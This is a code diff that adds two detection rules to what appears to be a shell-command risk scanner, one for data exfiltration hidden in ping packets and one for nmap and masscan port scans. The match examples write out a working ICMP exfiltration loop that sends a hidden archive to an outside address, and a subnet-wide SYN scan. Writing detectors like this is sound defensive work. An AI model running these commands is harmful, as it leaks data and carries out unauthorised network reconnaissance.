@@ -69,6 +69,30 @@ export const NETWORK_RULES: readonly Rule[] = [
     },
   },
   {
+    id: "network.icmp-exfil",
+    category: "network",
+    reason: "Sends data inside ping packets (ping -p with a pattern from a variable): exfiltration over ICMP (T1048.003).",
+    score: 88,
+    keywords: ["ping"],
+    pattern: re(String.raw`\bping(?: -${T}+)*[^;&|]{0,100}? -p ['"]?\$`),
+    examples: {
+      match: ['xxd -p -c 16 /dev/shm/.c.tgz | while read -r l; do ping -c 1 -p "$l" 198.51.100.66; done', "ping -c1 -p $chunk 203.0.113.5"],
+      noMatch: ["ping -c 3 example.com", "ping -p ff 10.0.0.1", "ping -c 1 $HOST"],
+    },
+  },
+  {
+    id: "network.port-scan",
+    category: "network",
+    reason: "Scans hosts or ports across a network (nmap, masscan, zmap): network service discovery (T1046).",
+    score: 62,
+    keywords: ["nmap", "masscan", "zmap", "rustscan"],
+    pattern: re(String.raw`${START}(?:nmap|masscan|zmap|rustscan)${END}(?![^;&|]{0,200}? (?:--version|-V|-h|--help)${END})[^;&|]{0,300}? (?:\d{1,3}\.){3}\d{1,3}(?:/\d{1,2}|-\d{1,3})${END}|${START}(?:nmap|masscan)${END}[^;&|]{0,200}? -(?:ss|st|su|sv|a|p-)${END}`),
+    examples: {
+      match: ["nmap -sS -Pn -n -T4 -p 22,445 --open -oG - 10.20.0.0/16", "masscan 10.0.0.0/8 -p80", "nmap -A scanme.example"],
+      noMatch: ["nmap --version", "apt install nmap", "echo nmap"],
+    },
+  },
+  {
     id: "network.exfil-service",
     category: "network",
     reason: "Sends data to a paste, file-drop or request-capture service often used for exfiltration.",
